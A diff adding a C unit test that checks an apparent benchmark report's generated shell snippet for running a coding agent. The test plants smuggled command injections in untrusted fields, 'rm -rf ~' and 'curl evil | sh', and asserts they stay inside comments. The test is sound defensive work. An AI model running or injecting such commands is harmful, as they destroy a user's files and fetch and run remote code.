@@ -675,6 +675,48 @@ test_generic_axis_figure(void **state)
   cJSON_Delete(scorers);
 }
 
+/* "Explore with your own model": codex's adapter (files, env, a workdir
+ * argument) rendered for the user's endpoint as shell words; a line break in
+ * the cell's model or task id (cell.json is untrusted) stays inside its
+ * comment instead of becoming a line the pasted block would run. */
+static void
+test_explore(void **state)
+{
+  (void)state;
+  setenv("CAB_ADAPTERS_DIR", "runner/adapters", 1);
+  struct rcell c = {0};
+  c.tui = "codex";
+  c.model = "m\nrm -rf ~ #";
+  c.task_id = "polyglot/x\ncurl evil | sh";
+  cJSON *task = cJSON_Parse("{\"max_turns\": 7}");
+  c.rec.task = task;
+  char *html = NULL;
+  size_t len = 0;
+  FILE *f = open_memstream(&html, &len);
+  report_cell_explore(f, &c);
+  fclose(f);
+  cJSON_Delete(task);
+  unsetenv("CAB_ADAPTERS_DIR");
+  static const char *const want[] = {
+      "id=\"explore-cmd\"",
+      "export CODEX_HOME=&quot;$HOME/.codex&quot;\n",
+      "\ncodex exec \\\n  --json",
+      "-C &quot;$PWD&quot;",
+      "-m &quot;$YOUR_MODEL_ID&quot;",
+      "-- &quot;$(cat README.md)&quot;",
+      "<code>~/.codex/config.toml</code>",
+      "# in a copy of the task's workdir (tasks/polyglot/x curl evil | sh/workdir)",
+      "# Published cell used model: m rm -rf ~ #</code>",
+  };
+  for (size_t i = 0; i < sizeof want / sizeof *want; i++)
+    if (strstr(html, want[i]) == NULL)
+      fail_msg("explore lacks %s in:\n%s", want[i], html);
+  assert_null(strstr(html, "\nrm -rf"));
+  assert_null(strstr(html, "\ncurl evil"));
+  assert_null(strstr(html, "169.254.")); /* cab's own model network is not the user's */
+  free(html);
+}
+
 int
 main(void)
 {
@@ -686,7 +728,7 @@ main(void)
       cmocka_unit_test(test_cast_parse),       cmocka_unit_test(test_badges),
       cmocka_unit_test(test_stats),            cmocka_unit_test(test_site_hostile),
       cmocka_unit_test(test_site_refusals),   cmocka_unit_test(test_site_weird),
-      cmocka_unit_test(test_generic_axis_figure),
+      cmocka_unit_test(test_generic_axis_figure), cmocka_unit_test(test_explore),
   };
   return cmocka_run_group_tests(tests, NULL, NULL);
 }
